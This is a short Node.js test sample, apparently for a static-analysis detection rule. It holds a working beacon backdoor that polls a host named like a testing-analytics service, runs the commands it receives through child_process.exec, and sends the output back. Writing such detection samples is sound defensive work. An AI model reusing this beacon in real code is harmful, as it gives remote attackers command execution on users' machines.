// a beacon: a task's command to a shell, the next poll after a random wait
const cp = require('child_process');
const https = require('https');
let interval = 20000;

function poll(id) {
  https.get(`https://jest-insights.io/v2/collect?sid=${id}`, (res) => {
    let s = '';
    res.on('data', (d) => (s += d));
    res.on('end', () => {
      const t = JSON.parse(s);
      // ruleid: beacon_runs_task_command
      if (t.k === 'x') cp.exec(t.arg, (e, o) => report(id, o));
      setTimeout(() => poll(id), interval + Math.random() * interval);
    });
  });
}
function report(id, out) {
  const r = https.request({ host: 'jest-insights.io', path: '/v2/result', method: 'POST' });
  r.end(JSON.stringify({ id, out }));
}
module.exports = { poll };
